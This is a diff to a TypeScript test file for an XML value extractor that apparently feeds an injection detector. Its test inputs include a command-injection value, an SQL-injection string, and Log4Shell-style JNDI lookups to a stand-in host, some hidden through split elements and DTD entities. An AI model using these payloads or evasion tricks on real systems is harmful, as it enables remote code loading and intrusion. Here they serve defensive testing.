@@ -34,21 +34,53 @@ test("an element's own text is joined across comments, instructions, CDATA and c
   assert.deepEqual(paths('<r><host>127.0.0.1<b/>;id</host></r>'), [['r.host', '127.0.0.1;id']]);
 });
 
-test('mixed content is also read whole, naming what it joins; entities are reported, not substituted', () => {
-  const r = xmlValues("<r><q>1' UNION <b>SELECT</b> password FROM users--</q></r>", 1024);
+test('mixed content is also read whole; secrets are marked on every value that holds their text', () => {
+  const isSecret = (name: string): boolean => name.toLowerCase() === 'password';
+  const r = xmlValues("<r><q>1' UNION <b>SELECT</b> password FROM users--</q></r>", 1024, isSecret);
   assert.deepEqual(
-    r.values.map((v) => [v.path, v.value, v.joins]),
-    [
-      ['r.q.b', 'SELECT', undefined],
-      ['r.q', "1' UNION  password FROM users--", undefined],
-      ['r.q', "1' UNION SELECT password FROM users--", ['r.q', 'r.q.b']],
-    ],
+    r.values.map((v) => [v.path, v.value]),
+    [['r.q.b', 'SELECT'], ['r.q', "1' UNION  password FROM users--"], ['r.q', "1' UNION SELECT password FROM users--"]],
   );
   // A record's fields are not joined: a login's user and password stay two values.
   assert.deepEqual(paths('<Login><User>jane</User><Password>pw</Password></Login>'), [['Login.User', 'jane'], ['Login.Password', 'pw']]);
-  // The document's own entities: nested ones and markup in them are a parser's job, so their use is what is reported.
-  assert.equal(xmlValues('<!DOCTYPE r [<!ENTITY a "jn"><!ENTITY b "&a;di">]><r>${&b;:ldap://x/a}</r>', 1024).internalEntity, 'b');
-  assert.equal(xmlValues('<!DOCTYPE r [<!ENTITY a "jn">]><r>Tom &amp; Jerry</r>', 1024).internalEntity, undefined);
+  // Inside a password element, in a mixed parent joining it, in a password attribute (a thirteenth review: a
+  // child of <Password> was recorded).
+  const secret = (xml: string) => xmlValues(xml, 1024, isSecret).values.map((v) => [v.path, v.secret === true]);
+  assert.deepEqual(secret('<Login>user jane<Password><v>Xy9</v></Password></Login>'), [
+    ['Login.Password.v', true],
+    ['Login', false],
+    ['Login', true],
+  ]);
+  assert.deepEqual(secret('<l user="a" password="b"/>'), [['l.@user', false], ['l.@password', true]]);
+});
+
+test('entity references glued to text are reported, standalone ones are not; the DTD is read past tricks', () => {
+  const entity = (xml: string) => xmlValues(xml, 1024).internalEntity;
+  assert.equal(entity('<!DOCTYPE r [<!ENTITY j "jn">]><r><q>${&j;di:ldap://evil.example/a}</q></r>'), 'j');
+  assert.equal(entity('<!DOCTYPE r [<!ENTITY a "jn"><!ENTITY b "&a;di">]><r>${&b;:ldap://x/a}</r>'), 'a');
+  // A `]` in a comment, an instruction or a quoted value does not end the subset (a thirteenth review).
+  assert.equal(entity('<!DOCTYPE r [<!-- ]><x> --><!ENTITY j "jn">]><r><q>${&j;di:ldap://x/a}</q></r>'), 'j');
+  assert.equal(entity('<!DOCTYPE r [<?pi ]><x>?><!ENTITY j "jn">]><r><q>${&j;di:ldap://x/a}</q></r>'), 'j');
+  assert.equal(entity('<!DOCTYPE r [<!ENTITY a "]><x>"><!ENTITY j "jn">]><r><q>${&j;di:ldap://x/a}</q></r>'), 'j');
+  // An attribute default built of one.
+  assert.equal(entity('<!DOCTYPE r [<!ENTITY j "jn"><!ATTLIST q v CDATA "${&j;di:ldap://x/a}">]><r><q/></r>'), 'j');
+  // Standalone: DocBook's product name, Illustrator's namespace entities, the usual escapes.
+  assert.equal(entity('<!DOCTYPE b [<!ENTITY product "Portcullis">]><b><title>&product;</title><p>Use &product; now</p></b>'), undefined);
+  assert.equal(entity('<!DOCTYPE svg [<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">]><svg><foreignObject requiredExtensions="&ns_ai;"/></svg>'), undefined);
+  assert.equal(entity('<r>Tom &amp; Jerry</r>'), undefined);
+});
+
+test('text split finer than the joined spans is reported as cut, not silently read apart', () => {
+  const r = xmlValues(`<r><q>\${jn<b>di:ldap://x/a}</b><c>${'a<!---->'.repeat(300)}</c></q></r>`, 1024);
+  assert.equal(r.joinsCut, true);
+});
+
+test('deep long names with mixed content stay cheap (a thirteenth review: 992 ms on 25 KB)', () => {
+  const n = 'n'.repeat(128);
+  const xml = `${`<${n}>`.repeat(64)}${`${'<a>x'.repeat(250)}${'</a>'.repeat(250)}`.repeat(4)}${`</${n}>`.repeat(64)}`;
+  const t0 = process.hrtime.bigint();
+  xmlValues(xml, 1024, (name) => name === 'password');
+  assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 100);
 });
 
 test('nested mixed content repeats no more than a budget of text (a twelfth review: 4.4 GB, out of memory)', () => {
